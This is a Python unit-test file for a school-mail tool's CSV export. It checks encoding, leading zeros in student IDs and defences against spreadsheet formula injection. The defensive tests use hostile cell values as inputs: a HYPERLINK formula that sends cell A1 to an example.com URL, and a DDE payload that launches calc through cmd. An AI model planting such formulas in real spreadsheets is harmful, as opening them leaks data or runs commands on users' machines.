"""The spreadsheets: opened by Excel as they are, and no cell of them is ever computed."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secciones.domain.outcomes import Outcome
from secciones.mail.tables import csv_file
from tests.unit.mail.batches import attachment, batch, mail_of, row, table

CELLS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))


def cells(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))


def test_it_is_utf_8_with_a_mark_and_lines_as_windows_ends_them() -> None:
    assert csv_file(["Año", "NIE"], [["2026", "0012345"]]) == b"\xef\xbb\xbfA\xc3\xb1o,NIE\r\n2026,0012345\r\n"


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_cell_that_could_be_a_formula_is_text(beginning: str) -> None:
    formula = f'{beginning}HYPERLINK("http://example.com?"&A1)'
    assert cells(csv_file(["a", "b"], [["x", formula]])) == [["a", "b"], ["x", f"'{formula}"]]


@given(st.lists(st.lists(CELLS, min_size=2, max_size=2)))
def test_cells_come_back_as_they_were_and_none_begins_a_formula(rows: list[list[str]]) -> None:
    read = cells(csv_file(["a", "b"], rows))[1:]
    assert [[cell.removeprefix("'") for cell in line] for line in read] == [
        [cell.removeprefix("'") for cell in line] for line in rows
    ]
    assert not [cell for line in read for cell in line if cell[:1] in set("=+-@\t\r\n")]


def test_the_accounts_have_the_columns_that_teachers_know_and_keep_the_zeros_of_the_nie() -> None:
    mail = mail_of(batch(row(45, name="=1+1")))
    header = "Nombre,NIE,Cuenta,Contraseña temporal,Centro educativo,Grado,Sección,Turno,Observación"
    assert attachment(mail, "cuentas.csv").decode("utf-8-sig").splitlines()[0] == header
    (line,) = table(mail, "cuentas.csv")
    assert line["NIE"] == "0000045"
    assert line["Nombre"] == "'=1+1"
    assert (line["Centro educativo"], line["Grado"], line["Sección"], line["Turno"]) == (
        "Centro Escolar Colonia Los Izotes",
        "Noveno Grado",
        "A",
        "Matutino",
    )


def test_an_address_that_the_registry_has_wrong_cannot_be_a_formula_either() -> None:
    bad = row(1, Outcome.MALFORMED_ADDRESS, name="+cmd|' /C calc'!A0")
    (line,) = table(mail_of(batch(bad)), "no-encontradas.csv")
    assert line["Nombre"] == "'+cmd|' /C calc'!A0"
